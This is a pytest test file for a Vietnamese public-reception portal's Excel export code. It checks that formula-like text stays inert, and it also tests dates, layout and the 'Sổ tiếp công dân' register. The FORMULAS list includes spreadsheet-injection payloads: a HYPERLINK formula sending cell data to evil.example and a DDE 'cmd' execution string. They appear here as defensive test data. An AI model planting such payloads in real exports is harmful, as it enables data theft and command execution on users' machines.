"""Spreadsheet exports: text that looks like a formula stays inert text, real dates and numbers,
the sheet layout (title, bold frozen header, autofilter) and the Sổ tiếp công dân columns."""

from __future__ import annotations

import re
import unicodedata
import zipfile
from datetime import UTC, date, datetime
from io import BytesIO
from typing import Any

import openpyxl
import pytest

from portal.lib.exports import (
    DATE_FORMAT,
    FIRST_DATA_ROW,
    HEADER_ROW,
    MAX_CELL_TEXT,
    RECEPTION_REGISTER_HEADERS,
    RECEPTION_REGISTER_WIDTHS,
    SUBTITLE_ROW,
    TITLE_ROW,
    looks_like_formula,
    reception_register_bytes,
    workbook_bytes,
    write_row,
)

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "   =cmd",
)


def _sheet(data: bytes) -> Any:
    return openpyxl.load_workbook(BytesIO(data)).active


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(BytesIO(data)) as package:
        return "\n".join(
            package.read(name).decode("utf-8")
            for name in package.namelist()
            if name.startswith("xl/worksheets/")
        )


def test_formula_looking_text_is_stored_as_plain_text() -> None:
    data = workbook_bytes("Thử", ["Giá trị", "Ghi chú"], [[value, value] for value in FORMULAS])
    ws = _sheet(data)
    for offset, value in enumerate(FORMULAS):
        for cell in ws[FIRST_DATA_ROW + offset]:
            assert cell.data_type == "s"
            assert cell.value == value
            assert cell.quotePrefix
    xml = _sheet_xml(data)
    assert not re.search(r"<(\w+:)?f[ >]", xml)
    assert "<f>" not in xml


def test_openpyxl_alone_would_have_written_a_formula() -> None:
    """Guards the premise: without write_row, "=…" becomes a live formula."""
    workbook = openpyxl.Workbook()
    ws = workbook.active
    ws["A1"] = "=1+1"
    assert ws["A1"].data_type == "f"
    write_row(ws, 1, ["=1+1"])
    assert ws["A1"].data_type == "s"


def test_ordinary_text_is_not_marked_and_unchanged() -> None:
    ws = _sheet(workbook_bytes("Thử", ["A"], [["Khiếu nại"], ["2+2"], ["a=b"]]))
    assert [ws.cell(row, 1).value for row in range(FIRST_DATA_ROW, FIRST_DATA_ROW + 3)] == [
        "Khiếu nại",
        "2+2",
        "a=b",
    ]
    assert not any(ws.cell(row, 1).quotePrefix for row in range(FIRST_DATA_ROW, FIRST_DATA_ROW + 3))


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=1", True), ("  +1", True), ("\t1", True), ("1-2", False), ("", False), (5, False)],
)
def test_looks_like_formula(value: object, expected: bool) -> None:
    assert looks_like_formula(value) is expected


def test_dates_numbers_and_empty_cells() -> None:
    rows = [
        [date(2026, 3, 5), 12, 2.5, None],
        [datetime(2026, 3, 5, 1, 30, tzinfo=UTC), 0, -3, "x"],
    ]
    ws = _sheet(workbook_bytes("Thử", ["Ngày", "Số", "Tỉ lệ", "Ghi chú"], rows))
    first, second = ws[FIRST_DATA_ROW], ws[FIRST_DATA_ROW + 1]

    assert first[0].value == datetime(2026, 3, 5)
    assert first[0].is_date
    assert first[0].number_format == DATE_FORMAT == "dd/mm/yyyy"
    assert (first[1].value, first[1].data_type) == (12, "n")
    assert first[2].value == 2.5
    assert first[3].value is None

    # An aware moment is shown as Vietnam's wall-clock time (UTC+7).
    assert second[0].value == datetime(2026, 3, 5, 8, 30)
    assert second[0].number_format.startswith("dd/mm/yyyy")
    assert (second[1].value, second[2].value) == (0, -3)


def test_layout_title_header_freeze_and_filter() -> None:
    data = workbook_bytes(
        "Danh sách đơn",
        ["Mã hồ sơ", "Ngày nhận", "Nội dung"],
        [["2026/0001", date(2026, 3, 1), "a"], ["2026/0002", date(2026, 3, 2), "b"]],
        subtitle="Tháng 3/2026",
        column_widths=[12, 14, 40],
    )
    ws = _sheet(data)
    assert ws.title == "Danh sách đơn"
    assert ws.cell(TITLE_ROW, 1).value == "Danh sách đơn"
    assert ws.cell(TITLE_ROW, 1).font.bold
    assert ws.cell(SUBTITLE_ROW, 1).value == "Tháng 3/2026"
    assert [c.value for c in ws[HEADER_ROW]] == ["Mã hồ sơ", "Ngày nhận", "Nội dung"]
    assert all(c.font.bold for c in ws[HEADER_ROW])
    assert not ws.cell(FIRST_DATA_ROW, 1).font.bold
    assert ws.freeze_panes == f"A{FIRST_DATA_ROW}" == "A4"
    assert ws.auto_filter.ref == "A3:C5"
    assert [ws.column_dimensions[letter].width for letter in "ABC"] == [12, 14, 40]
    assert "A1:C1" in {str(r) for r in ws.merged_cells.ranges}


def test_layout_is_the_same_without_subtitle_or_rows() -> None:
    ws = _sheet(workbook_bytes("Trống", ["A", "B"], iter(())))
    assert ws.cell(SUBTITLE_ROW, 1).value is None
    assert [c.value for c in ws[HEADER_ROW]] == ["A", "B"]
    assert ws.freeze_panes == "A4"
    assert ws.auto_filter.ref == "A3:B3"


def test_rows_are_padded_but_never_truncated() -> None:
    ws = _sheet(workbook_bytes("Thử", ["A", "B", "C"], [["x"]]))
    assert [c.value for c in ws[FIRST_DATA_ROW]] == ["x", None, None]
    with pytest.raises(ValueError, match="4 cells for 3 columns"):
        workbook_bytes("Thử", ["A", "B", "C"], [[1, 2, 3, 4]])


def test_vietnamese_text_round_trips_in_nfc() -> None:
    text = "Nguyễn Thị Hoà, Đặng Việt — phường Tân Ninh"
    ws = _sheet(
        workbook_bytes("Tiếng Việt", ["Họ tên"], [[text], [unicodedata.normalize("NFD", text)]])
    )
    assert ws.cell(FIRST_DATA_ROW, 1).value == text
    assert ws.cell(FIRST_DATA_ROW + 1, 1).value == text


def test_unstorable_text_is_cleaned() -> None:
    ws = _sheet(workbook_bytes("Thử", ["A"], [["a\x00b\x1fc\td"], ["x" * (MAX_CELL_TEXT + 10)]]))
    assert ws.cell(FIRST_DATA_ROW, 1).value == "abc\td"
    assert len(ws.cell(FIRST_DATA_ROW + 1, 1).value) == MAX_CELL_TEXT


def test_sheet_name_is_made_valid() -> None:
    ws = _sheet(workbook_bytes("Báo cáo [quý 1]: tổng hợp/chi tiết theo lĩnh vực", ["A"], []))
    assert len(ws.title) <= 31
    assert not set(ws.title) & set("[]:*?/\\")


def test_reception_register() -> None:
    # Mẫu số 03 has 12 columns, each with its width; the wording is read from the code.
    assert len(RECEPTION_REGISTER_HEADERS) == len(RECEPTION_REGISTER_WIDTHS) == 12
    row = [
        1,
        date(2026, 3, 16),
        "Trần Thị Hoa - phường Tân Ninh, tỉnh Tây Ninh",
        "072190001234",
        "=Đề nghị xem xét lại quyết định xử phạt",
        "Khiếu nại / 1",
        None,
        "x",
        None,
        None,
        "2026/0012: Đang giải quyết",
        None,
    ]
    data = reception_register_bytes("Tháng 3/2026", [row])
    ws = _sheet(data)
    assert ws.cell(TITLE_ROW, 1).value == "SỔ TIẾP CÔNG DÂN"
    assert ws.cell(SUBTITLE_ROW, 1).value == "Tháng 3/2026"
    assert tuple(c.value for c in ws[HEADER_ROW]) == RECEPTION_REGISTER_HEADERS
    values = [c.value for c in ws[FIRST_DATA_ROW]]
    assert values[0] == 1
    assert values[1] == datetime(2026, 3, 16)
    assert values[2:] == row[2:]
    assert ws.cell(FIRST_DATA_ROW, 4).data_type == "s"  # the ID keeps its leading zero
    assert ws.freeze_panes == "A4"
    assert ws.auto_filter.ref == "A3:L4"
    assert ws.page_setup.orientation == "landscape"
    assert "<f>" not in _sheet_xml(data)
